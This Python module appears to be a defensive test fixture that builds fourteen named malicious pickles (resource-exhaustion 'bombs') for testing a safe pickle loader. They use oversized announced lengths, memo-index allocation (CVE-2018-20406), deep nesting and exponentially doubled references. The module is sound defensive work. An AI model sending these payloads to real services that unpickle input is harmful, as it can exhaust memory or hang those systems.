"""Small pickles that announce large objects, or are large once somebody walks them.

Whoever believes an announced length or index sets memory aside for it (CVE-2018-20406); whoever
hashes, copies or shows a value that was doubled sixty times over never comes back. The indices and
numbers that a loader would really set memory aside for are such that it costs 256 MiB: enough to
be seen, and not enough to take the machine down with a target.
"""

from __future__ import annotations

import pickle

from msgspec import Struct

from wireproof.wire.hostile_pickles import Push, by_global, call, called, number, pickled

SEEN = 1 << 28  # bytes
ANNOUNCED = 1 << 40
DOUBLINGS = 60
LEVELS = 100_000
DIGITS = 100_000


class Bomb(Struct, frozen=True):
    """One value that costs more than it weighs."""

    push: Push

    @property
    def alone(self) -> bytes:
        """Make a pickle of the value itself."""
        return pickled(self.push)

    @property
    def as_argument(self) -> bytes:
        """Hide it among the arguments of a call that is otherwise well formed."""
        return pickled(call("add", self.push, number(1)))


def _length(value: int) -> bytes:
    return value.to_bytes(8, "little")


def _doubled_through_the_memo() -> Push:
    """A list of two references to the list before."""
    first = pickle.EMPTY_LIST + pickle.BINPUT + b"\0" + pickle.POP
    twice = pickle.BINGET + b"\0" + pickle.BINGET + b"\0"
    level = pickle.EMPTY_LIST + pickle.MARK + twice + pickle.APPENDS
    kept = level + pickle.BINPUT + b"\0" + pickle.POP
    return first + kept * (DOUBLINGS - 1) + level


_DOUBLED = pickle.EMPTY_TUPLE + (pickle.DUP + pickle.TUPLE2) * DOUBLINGS
_INDEX = SEEN // 16  # CPython makes room for twice as many, at 8 bytes each

BOMBS: dict[str, Bomb] = {
    "memo-index": Bomb(pickle.NONE + pickle.LONG_BINPUT + _INDEX.to_bytes(4, "little")),
    "memo-index-as-text": Bomb(pickle.NONE + pickle.PUT + b"%d\n" % _INDEX),
    "bytearray-announced": Bomb(pickle.BYTEARRAY8 + _length(ANNOUNCED)),
    "bytes-announced": Bomb(pickle.BINBYTES8 + _length(ANNOUNCED)),
    "text-announced": Bomb(pickle.BINUNICODE8 + _length(ANNOUNCED)),
    "integer-announced": Bomb(pickle.LONG4 + (2**31 - 1).to_bytes(4, "little")),
    "frame-announced": Bomb(pickle.FRAME + _length(1 << 60) + pickle.NONE),
    "digits": Bomb(pickle.LONG + b"9" * DIGITS + b"L\n"),
    "levels": Bomb(pickle.EMPTY_LIST * LEVELS + pickle.APPEND * (LEVELS - 1)),
    "doubled": Bomb(_DOUBLED),
    "doubled-through-the-memo": Bomb(_doubled_through_the_memo()),
    "doubled-as-a-key": Bomb(pickle.EMPTY_DICT + _DOUBLED + pickle.NONE + pickle.SETITEM),
    "bytearray-of-a-number": Bomb(called(by_global("builtins", "bytearray"), number(SEEN))),
    "bytes-of-a-number": Bomb(called(by_global("builtins", "bytes"), number(SEEN))),
}
"""Each under a name of its own."""
